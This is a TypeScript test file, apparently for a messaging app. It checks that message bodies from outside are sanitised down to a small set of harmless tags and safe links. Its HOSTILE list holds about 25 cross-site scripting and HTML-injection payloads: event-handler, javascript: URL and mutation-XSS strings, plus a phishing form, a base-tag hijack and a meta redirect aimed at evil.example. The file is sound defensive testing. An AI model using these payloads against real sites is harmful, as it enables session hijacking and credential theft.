import { describe, expect, test } from "vitest";

import { FakeInbox } from "./fakeInbox";
import { log, openPage } from "./page";

async function shown(body: string): Promise<HTMLElement> {
  const inbox = new FakeInbox();
  const marie = inbox.add("Marie Tremblay");
  inbox.say(marie, { body });
  await openPage(inbox, "/conversations/c0");
  const article = (await log()).querySelector("article");
  // Header and bubble; the body is the bubble's first child.
  const element = article?.querySelector<HTMLElement>(":scope > div > div");
  if (!element) throw new Error("no body is shown");
  return element;
}

const HOSTILE = [
  `<script>window.hit = 1</script>`,
  `<img src=x onerror="window.hit = 1">`,
  `<svg onload="window.hit = 1"><a xlink:href="javascript:window.hit=1"><text>x</text></a></svg>`,
  `<svg><script>window.hit = 1</script></svg>`,
  `<iframe srcdoc="<script>parent.hit = 1</script>"></iframe>`,
  `<a href="javascript:window.hit=1">click</a>`,
  `<a href="  java\nscript:window.hit=1">click</a>`,
  `<a href="data:text/html,<script>window.hit=1</script>">click</a>`,
  `<a href="vbscript:x" onclick="window.hit = 1">click</a>`,
  `<b onmouseover="window.hit = 1" style="position:fixed;inset:0">bold</b>`,
  `<p id="root" class="modal" data-x="1">text</p>`,
  `<style>* { display: none }</style><p>text</p>`,
  `<link rel="stylesheet" href="https://evil.example/x.css"><p>text</p>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example"><p>text</p>`,
  `<base href="https://evil.example/"><a href="/login">log in</a>`,
  `<form action="https://evil.example"><input name="password"><button>Go</button></form>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=window.hit=1>">`,
  `<noscript><p title="</noscript><img src=x onerror=window.hit=1>">`,
  `<template><img src=x onerror="window.hit = 1"></template>`,
  `<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">`,
  `<video><source onerror="window.hit = 1"></video>`,
  `<details open ontoggle="window.hit = 1">x</details><br>`,
  `<b><img src=x onerror=window.hit=1//`,
  `&lt;img src=x onerror=window.hit=1&gt;`,
  `<p>&lt;script&gt;window.hit = 1&lt;/script&gt;</p>`,
];

const HARMLESS = new Set(["P", "BR", "B", "STRONG", "I", "EM", "U", "UL", "OL", "LI", "A"]);

describe("A body from outside", () => {
  test.each(HOSTILE)("shows no active markup: %s", async (body) => {
    const element = await shown(body);
    for (const node of element.querySelectorAll("*")) {
      expect(HARMLESS).toContain(node.nodeName);
      for (const { name, value } of node.attributes) {
        expect(["href", "rel", "target"]).toContain(name);
        if (name === "href") expect(value).toMatch(/^(https?|mailto):/);
      }
    }
    expect(window).not.toHaveProperty("hit");
  });

  test("is shown as typed when it is plain text", async () => {
    expect((await shown("3 < 5 & ok, I <3 it\nsecond line")).textContent).toBe("3 < 5 & ok, I <3 it\nsecond line");
  });

  test("keeps what only looks like markup when there is some as well", async () => {
    const element = await shown("3 < 5 &amp; r&eacute;gl&eacute;<br />I <3 it");
    expect(element.textContent).toBe("3 < 5 & régléI <3 it");
    expect(element.querySelectorAll("br")).toHaveLength(1);
  });

  test("has one line break where the sender meant one", async () => {
    const element = await shown("Bonjour,<br />\nmerci<br/>\r\nMarie");
    expect(element.querySelectorAll("br")).toHaveLength(2);
    expect(element.textContent).toBe("Bonjour,merciMarie");
  });

  test("keeps paragraphs, emphasis and lists", async () => {
    const element = await shown("<p>One <b>bold</b></p>\n<ul>\n<li>a</li>\n<li>b</li>\n</ul>");
    expect(element.innerHTML).toBe("<p>One <b>bold</b></p><ul><li>a</li><li>b</li></ul>");
  });

  test("opens links elsewhere, with nothing said about where from", async () => {
    for (const body of ["<a href='https://example.com/a'>here</a>", "see https://example.com/a."]) {
      const link = (await shown(body)).querySelector("a");
      expect(link).toHaveAttribute("href", "https://example.com/a");
      expect(link).toHaveAttribute("rel", "noopener noreferrer");
      expect(link).toHaveAttribute("target", "_blank");
      document.body.replaceChildren();
    }
  });
});
